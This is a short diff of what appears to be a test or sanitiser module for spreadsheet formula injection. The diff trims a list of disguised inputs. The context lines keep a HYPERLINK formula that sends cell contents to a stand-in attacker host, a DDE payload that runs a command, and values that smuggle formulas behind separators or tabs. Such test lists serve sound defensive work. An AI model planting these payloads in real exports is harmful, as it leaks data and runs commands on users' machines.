@@ -22,13 +22,9 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ana")'
 DISGUISES = [
     FORMULA,
     "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1)",
     "\t=1+1",
     "＝1+1",
     "Ana;=1+1",
-    "Ana\t@SUM(1)",
-    "Ana|-2+3",
 ]
 ENDS_OF_CELLS = re.compile(r"[;|\t\r\n]")
 
